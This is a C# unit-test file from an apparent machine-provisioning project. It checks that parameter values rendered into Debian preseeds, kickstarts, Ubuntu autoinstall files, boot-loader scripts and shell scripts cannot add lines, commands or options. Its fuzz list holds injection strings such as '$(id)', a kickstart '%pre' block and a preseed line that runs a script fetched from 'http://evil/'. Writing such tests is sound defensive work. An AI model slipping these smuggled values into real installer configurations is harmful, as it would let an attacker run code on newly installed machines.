using System.Text.Json;
using System.Text.RegularExpressions;
using Anvil.Provisioning.Catalog;
using Anvil.Provisioning.Documents;
using Anvil.Provisioning.Tests.Boot.Kickstarts;

namespace Anvil.Provisioning.Tests.Boot;

/// <summary>
/// A value of a param is refused, or it is a value: it never becomes a line, a command or an option of preseed, kickstart, autoinstall,
/// shell or a boot program's script.
/// </summary>
public sealed class InstallerValueTests
{
    /// <summary>What means something to one of these languages.</summary>
    private static readonly string[] Odd =
    [
        "\n", "\r\n", "\r", "\t", "\v", "\f", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029", "\0", "\x7f", " ", "\u00a0",
        "\"", "'", "\\", "$", "$(id)", "${net0/mac}", "`id`", ";", "&", "&&", " && ", "|", " || ", "<", ">", "(", ")", "{", "}",
        "[", "]", "*", "?", "#", " #", "!", "~", "%", "%0A", "%0a%0d", "%00", "%5C", "%22", "%27", "%20", "%2F..%2F", "%C2%85",
        "%E2%80%A8", "\n%end\n", "\n%pre\nid\n%end\n", "\nd-i preseed/run string http://evil/",
        "%0Ad-i%20preseed/run%20string%20http://evil/", "\" --noverifyssl \"", "--noverifyssl", " --noverifyssl", "-", "--", "=",
        ",", ":", "://", "@", "é", "日本", "😀", "\ufeff", "{{ .Machine.Secret }}", "{{", "}}", "\\n", "\\\n", "- a", ": a", "null",
        "yes", "0x10", "1e3", "EOF", "../../etc", "a\\", "/a%0Ab",
    ];

    /// <summary>Params with a text, and one that they take.</summary>
    private static readonly Dictionary<string, string> Plain = new(StringComparer.Ordinal)
    {
        ["debian/mirror"] = "http://mirror.example/debian",
        ["debian/proxy"] = "http://proxy.example:3128/",
        ["debian/security-mirror"] = "http://mirror.example/debian-security",
        ["ubuntu/mirror"] = "http://mirror.example/ubuntu",
        ["ubuntu/iso"] = "http://mirror.example/live.iso",
        ["ubuntu/proxy"] = "http://proxy.example:3128/",
        ["rhel/repository"] = "http://mirror.example/rocky",
        ["rhel/proxy"] = "http://proxy.example:3128/",
        ["install/user"] = "ann",
        ["install/password-hash"] = "$6$salt$hash",
        ["install/disk"] = "/dev/sda",
        ["install/post-install"] = "id",
        ["install/locale"] = "en_US.UTF-8",
        ["install/keyboard"] = "us",
        ["timezone"] = "Etc/UTC",
        ["domain"] = "example.com",
        ["kernel-console"] = "console=ttyS0",
        ["image-deploy/image"] = "/images/a.raw.zst",
        ["image-deploy/os"] = "debian-13",
        ["image-deploy/sha256"] = new string('a', 64),
    };

    /// <summary>Params with texts in a list or a map, and what makes one of a text.</summary>
    private static readonly Dictionary<string, (string Plain, Func<string, JsonElement> Make)> Nested = new(StringComparer.Ordinal)
    {
        ["debian/tasks"] = ("standard", v => Json.Element(new[] { v })),
        ["install/packages"] = ("htop", v => Json.Element(new[] { v, "z" })),
        ["access-keys"] = ("ssh-ed25519 AAAA a", v => Answers.Map(("ann", v))),
        ["rhel/extra-repositories"] = ("http://x/", v => Answers.Map(("extra", v))),
    };

    public static TheoryData<string> Installers => [.. Answers.Installers];

    [Theory]
    [MemberData(nameof(Installers))]
    public void AValueIsRefusedOrAValue(string installer)
    {
        var release = installer[^1] == '8' ? 8 : 9;
        foreach (var (param, plain, make) in Params().Where(p => IsOf(p.Param, installer)))
        {
            var usual = Answers.Render(installer, With(param, make(plain)));
            foreach (var text in Odd.SelectMany(o => new[] { o, plain + o, plain + o + plain }))
            {
                if (Answers.Problems(param, make(text)).Any()) continue;
                var files = Answers.Render(installer, With(param, make(text)));
                var what = $"{installer} with {param} = {Json.Element(text)}";
                foreach (var (name, content) in files)
                    Assert.True(Lines(name, content) == Lines(name, usual[name]), $"{what}: {name} has other lines\n{content}");
                foreach (var loader in new[] { "ipxe-mac", "grub-mac", "pxelinux-mac" })
                    Loader(loader, files[loader], usual[loader], what);
                if (files.TryGetValue("seed", out var seed)) Assert.True(Questions(seed) == Questions(usual["seed"]), $"{what}\n{seed}");
                if (files.TryGetValue("kickstart", out var kickstart)) Kickstart(kickstart, usual["kickstart"], release, what);
                if (files.TryGetValue("user-data", out var data)) Autoinstall(data, usual["user-data"], what);
                Script(files["post-install"], usual["post-install"], what);
            }
        }
    }

    /// <summary>The scripts of tasks have words in quotes.</summary>
    [Theory]
    [InlineData("image-write")]
    [InlineData("image-configure")]
    [InlineData("wipe-disks")]
    public void AValueIsAWordOfATasksScript(string task)
    {
        foreach (var (param, plain, make) in Params())
        {
            var usual = Answers.RenderTask(task, With(param, make(plain)));
            foreach (var text in Odd.SelectMany(o => new[] { o, plain + o, o + plain }))
            {
                if (Answers.Problems(param, make(text)).Any()) continue;
                var files = Answers.RenderTask(task, With(param, make(text)));
                foreach (var (name, content) in files.Where(f => f.Key.EndsWith(".sh", StringComparison.Ordinal)))
                {
                    var words = ShellWords.Split(content, hasComments: false, out var problem);
                    Assert.True(problem is null && words.Count == ShellWords.Split(usual[name], hasComments: false, out _).Count,
                        $"{task} with {param} = {Json.Element(text)}: {problem}\n{content}");
                }
            }
        }
    }

    /// <summary>Many values in one file for one look of the program that Debian itself reads preseeds with.</summary>
    [Theory]
    [InlineData("debian-12")]
    [InlineData("debian-13")]
    public void EveryPreseedIsOne(string installer)
    {
        var seeds = Answers.Variants(installer).Select(v => Answers.Render(installer, v)["seed"]).Distinct(StringComparer.Ordinal)
            .ToList();
        Assert.True(seeds.Count > 100, $"{seeds.Count} are few");
        Answers.Check(string.Join('\n', seeds), "debconf-set-selections", "--checkonly");
    }

    /// <summary>The commands in a preseed, and the script that they fetch, are shell.</summary>
    [Theory]
    [InlineData("debian-12")]
    [InlineData("debian-13")]
    public void TheCommandsOfAPreseedAreShell(string installer)
    {
        var commands = Regex.Matches(Answers.Render(installer, Answers.Everything)["seed"],
            "(?m)^d-i (preseed|partman)/[a-z]+_command string (.*)$");
        var script = Assert.Single(commands).Groups[2].Value + "\n";
        Answers.Check(script, "sh", "-n");
        Answers.Check(script, "bash", "-n");
    }

    private static IEnumerable<(string Param, string Plain, Func<string, JsonElement> Make)> Params() =>
        Plain.Select(p => (p.Key, p.Value, (Func<string, JsonElement>)(v => Json.Element(v))))
            .Concat(Nested.Select(n => (n.Key, n.Value.Plain, n.Value.Make)));

    /// <summary>False for what only other families' files have.</summary>
    private static bool IsOf(string param, string installer) => param.Split('/')[0] is var family
        && (family is not ("debian" or "ubuntu" or "rhel" or "image-deploy") || installer.StartsWith(family, StringComparison.Ordinal));

    private static Dictionary<string, JsonElement> With(string param, JsonElement value)
        => new(StringComparer.Ordinal) { [param] = value };

    /// <summary>Lines, as the reader with the most of line ends, Python's, counts them; in YAML's quotes they are none.</summary>
    private static int Lines(string name, string content) => name == "user-data" ? content.Split('\n').Length
        : content.Split(['\n', '\r', '\v', '\f', '\x1c', '\x1d', '\x1e', '\x85', '\u2028', '\u2029']).Length;

    /// <summary>Beside the value's own words there is as much as always of what makes a loader do something.</summary>
    private static void Loader(string name, string text, string usual, string what)
    {
        Assert.True(!text.Any(c => char.IsControl(c) && c != '\n' && c != '\t'), $"{what}: {name} has control characters\n{text}");
        if (name == "ipxe-mac")
            foreach (var mark in new[] { "${", " || ", " && ", " ; " })
                Assert.True(Count(text, mark) == Count(usual, mark), $"{what}: {mark}\n{text}");
        if (name != "grub-mac") return;
        // What GRUB is given behind a backslash means nothing to it.
        var bare = Regex.Replace(text, @"\\.", "");
        var before = Regex.Replace(usual, @"\\.", "");
        foreach (var mark in "$;&|<>{}\"'#*")
            Assert.True(bare.Count(c => c == mark) == before.Count(c => c == mark), $"{what}: {mark}\n{text}");
    }

    private static string Questions(string seed)
    {
        var questions = new List<string>();
        foreach (var line in seed.Split('\n').Where(l => l.Length > 0 && l[0] != '#'))
        {
            Assert.Matches("^(d-i|tasksel|popularity-contest) [a-z0-9/_-]+ (string|boolean|select|multiselect|password|note)( .*)?$",
                line);
            Assert.False(line.EndsWith('\\'), line);
            questions.Add(string.Join(' ', line.Split(' ')[..3]));
        }

        return string.Join('\n', questions);
    }

    private static void Kickstart(string text, string usual, int release, string what)
    {
        var file = KickstartFile.Read(text, release);
        Assert.True(file.Problems.Count + file.Warnings.Count == 0,
            $"{what}: {string.Join("; ", file.Problems.Concat(file.Warnings))}\n{text}");
        Assert.True(file.Shape == KickstartFile.Read(usual, release).Shape, $"{what}\n{text}");
    }

    private static void Autoinstall(string text, string usual, string what)
    {
        // Characters that YAML has no place for make the whole file unreadable.
        Assert.True(text.All(c => c is '\n' or (>= ' ' and not (>= '\x7f' and <= '\x9f') and not ('\ufffe' or '\uffff'))),
            $"{what}\n{text}");
        var paths = string.Join('\n', Paths(ContentPack.Yaml(text), ""));
        Assert.True(paths == string.Join('\n', Paths(ContentPack.Yaml(usual), "")), $"{what}: {paths}");
    }

    private static IEnumerable<string> Paths(System.Text.Json.Nodes.JsonNode? node, string at) => node switch
    {
        System.Text.Json.Nodes.JsonObject o => o.SelectMany(p => Paths(p.Value, $"{at}/{p.Key}")),
        System.Text.Json.Nodes.JsonArray a => a.SelectMany((n, i) => Paths(n, $"{at}/{i}")),
        _ => [$"{at} {node?.GetValueKind()}"],
    };

    /// <summary>As many words as always; a script of one's own is one word.</summary>
    private static void Script(string text, string usual, string what)
    {
        var words = ShellWords.Split(text, hasComments: true, out var problem);
        var before = ShellWords.Split(usual, hasComments: true, out _);
        Assert.True(problem is null, $"{what}: {problem}\n{text}");
        Assert.True(words.Count == before.Count, $"{what}: {words.Count} words, not {before.Count}\n{text}");
    }

    private static int Count(string text, string part) => text.Split(part).Length - 1;
}
